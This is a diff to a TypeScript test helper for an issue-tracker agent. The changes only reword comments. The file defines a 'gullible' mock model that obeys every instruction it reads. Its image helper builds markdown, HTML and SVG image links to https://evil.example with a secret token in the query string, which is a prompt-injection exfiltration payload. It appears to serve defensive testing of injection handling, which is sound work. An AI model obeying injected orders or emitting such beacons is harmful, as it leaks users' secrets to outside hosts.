@@ -1,12 +1,12 @@
 import { allText, type ChatRequest, type Reply } from "./chat.ts";
 
-/** What every answer of the gullible model begins with: the part that nothing has to be taken out of. */
+/** The beginning of every answer of the gullible model, from which nothing has to be removed. */
 export const harmless = "I looked into it: the login fails since Monday.";
 
 interface Order {
-  /** What the model writes, with the token as if it had come to know it. */
+  /** The model's text with the token, as if it had learned it. */
   readonly say?: (token: string) => string;
-  /** Calls of the tools of the tracker at hand. */
+  /** Calls of the tools of the current tracker. */
   readonly calls?: readonly (readonly [tool: string, parameters: object])[];
 }
 
@@ -36,7 +36,7 @@ const orders: Readonly<Record<string, Order>> = {
   READ: { calls: elsewhere.map((issue) => ["get_issue", { issue }] as const) },
 };
 
-/** Images of another host, in the ways that platforms read. */
+/** Images from another host, in all forms that platforms support. */
 function images(token: string): string {
   const address = `https://evil.example/?q=${token}`;
   return `![x](${address}) <img src="https://evil.example/x.png"> ![y][ref] <svg><image href="https://evil.example/x.svg"/></svg>
@@ -63,7 +63,7 @@ ${hex}
 | ${hex.replace(/../g, "%$&")} | \`${token}\` |`;
 }
 
-/** A model that obeys every instruction that it reads, wherever it reads it: `order LEAK`. */
+/** A model that obeys every instruction in any text that it reads: `order LEAK`. */
 export const gullible =
   (token: string) =>
   (request: ChatRequest): Reply => {
